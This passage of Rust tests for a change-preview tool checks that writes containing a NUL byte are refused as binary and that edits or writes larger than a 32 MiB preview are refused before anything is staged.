/// nothing staged, nothing written. (A command line cannot carry a NUL, so `edit`'s refusal of
/// one in `new_string` is tested in crates/edit.)
#[test]
fn a_write_of_a_nul_byte_is_refused_as_a_binary_file() {
    let ws = workspace(&[("a.txt", "text\n")]);
    let dir = ws.path();
    let before = tree(dir);
    for path in ["a.txt", "new.bin"] {
        let out = staged_in(dir, &["--json", "write", path], b"ELF\x00\x01\x02\n");
        assert_eq!(code(&out), 2, "{}", stdout(&out));
        assert_eq!(
            text(&out),
            format!(
                "The new text of {path} holds a NUL byte, as a binary file does: staged previews changes to text files only"
            )
        );
        let out = staged_in(dir, &["write", path], b"ELF\x00\x01\x02\n");
        assert_eq!(code(&out), 2);
        assert!(
            stderr(&out).contains(&format!("The new text of {path} holds a NUL byte")),
            "{}",
            stderr(&out)
        );
    }
    assert!(pending_ids(dir).is_empty());
    assert_eq!(tree(dir), before);
}

/// Issue 32, finding 7: a preview's memory is bounded. A `replace_all` of a common letter by
/// a long text (980,000 replacements by 1,000 bytes took 7.9 GB and minutes) and a write of a
/// text larger than a preview holds are refused at once, naming the sizes; nothing is staged
/// or written.
#[test]
fn edits_and_writes_larger_than_a_preview_are_refused_at_once() {
    let ws = workspace(&[("a.txt", &"ab".repeat(40_000))]);
    let dir = ws.path();
    let before = tree(dir);
    let long = "x".repeat(1000);
    let out = staged(dir, &["--json", "edit", "a.txt", "--old", "a", "--new", &long, "--all"]);
    assert_eq!(code(&out), 2, "{}", stdout(&out));
    assert_eq!(
        text(&out),
        "Refusing to stage this change: 40000 replacements of 1 byte by 1000 bytes in a.txt would change 38 MiB, and a preview holds at most 32 MiB of changes (they are kept, shown and sent whole). Make the change in smaller parts."
    );
    let huge = "y\n".repeat(17 << 20);
    for path in ["a.txt", "new.txt"] {
        let out = staged_in(dir, &["--json", "write", path], huge.as_bytes());
        assert_eq!(code(&out), 2, "{}", stderr(&out));
        assert_eq!(
            text(&out),
            format!(
                "Refusing to stage this change: the new text of {path} is 34 MiB, and a preview holds at most 32 MiB of changes (they are kept, shown and sent whole). Make the change in smaller parts."
            )
        );
    }
    assert!(pending_ids(dir).is_empty());
    assert_eq!(tree(dir), before);
    // An ordinary replace_all still stages.
    let out = staged(dir, &["--json", "edit", "a.txt", "--old", "a", "--new", "c", "--all"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(json(&out)["pending"]["label"], "Edit: a.txt (40000 replacements)");
}
